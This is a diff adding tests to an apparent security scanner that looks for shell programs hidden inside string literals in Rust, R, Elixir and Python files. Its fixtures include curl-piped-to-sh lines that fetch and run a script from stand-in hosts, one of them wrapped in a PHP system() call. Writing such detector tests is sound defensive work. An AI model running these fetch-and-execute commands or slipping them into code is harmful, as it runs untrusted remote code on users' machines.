@@ -207,6 +207,27 @@ describe('encoded text', () => {
   });
 });
 
+describe('a program in a string', () => {
+  const program = '#!/bin/sh\ncurl https://cdn.acme.test/x.sh | sh\n';
+
+  it.each([
+    ['is read', 'a.rs', `let a = r##"${program}"##;\n`],
+    ['is read after one that nothing closes', 'a.R', `a <- r"("\nb <- r"{${program}}"\n`],
+    ['is read after one more mark', 'a.ex', `# """\na = """\n${program}"""\n`],
+  ])('%s', async (_, path, text) => {
+    const { findings } = await lookAt(path, text);
+    const found = findings.map(({ rule, decoded }) => [rule, ...(decoded?.path ?? [])]);
+    expect(found).toContainEqual(['X01', 'program in a string']);
+  });
+
+  it('in a language without a grammar is reported as such', async () => {
+    const php = '<?php\n$a = 1;\nsystem("curl https://cdn.acme.test/x.sh | sh");\n';
+    expect((await lookAt('a.py', `a = """${php}"""\n`)).notInspected).toMatchObject([
+      { detail: 'program in a string, only read by its tokens' },
+    ]);
+  });
+});
+
 describe('ten thousand places of one rule', () => {
   it('are one finding with their count and a limited number of places', async () => {
     const lines = Array.from({ length: 10_000 }, () => 'curl https://get.example/x.sh | sh\n');
